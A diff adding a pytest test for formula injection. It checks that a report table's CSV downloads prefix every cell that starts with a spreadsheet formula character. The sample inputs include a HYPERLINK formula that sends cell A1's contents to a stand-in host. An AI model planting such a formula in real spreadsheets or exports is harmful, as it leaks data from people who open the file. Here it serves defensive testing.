@@ -378,3 +378,36 @@ def test_a_link_to_a_file_outside_the_tree_is_refused(tmp_path, caplog):
     assert names == ["a.txt", "inside.txt"]
     [warning] = [r.getMessage() for r in caplog.records if "link.txt" in r.getMessage()]
     assert "outside" in warning and "\n" not in warning
+
+
+# --- 5. formula injection -----------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.invalid/?q="&A1,"点击")', "=116人", "=100%", "@SUM(A1:A9)", "-5%", "+86 951",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("rows", [
+    pytest.param(3, id="short-table-data-uri"),
+    pytest.param(400, id="long-table-download-file"),
+])
+def test_report_csv_downloads_run_no_formula(tmp_path, rows):
+    import base64
+    import csv
+    import io
+    import re
+
+    import pandas as pd
+
+    from budgetkit.csvsafe import FORMULA_START
+    from budgetkit.report.display import ReadingTable
+
+    values = (FORMULAS * rows)[:max(rows, len(FORMULAS))]
+    frame = pd.DataFrame({"indicator": values, "value": values, "total_wan": [-1.5] * len(values)})
+    page = ReadingTable(frame, "indicators", name="t", downloads=tmp_path / "csv").to_html()
+    found = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page)
+    raw = (base64.b64decode(found.group(1)).decode("utf-8") if found
+           else (tmp_path / "csv/t.csv").read_text(encoding="utf-8"))
+    cells = [c for row in list(csv.reader(io.StringIO(raw.lstrip("\ufeff"), newline="")))[1:] for c in row]
+    texts = [c for c in cells if c != "-1.5"]
+    assert texts and not [c for c in texts if c.startswith(FORMULA_START)]
+    assert {c[1:] for c in texts} == set(values)
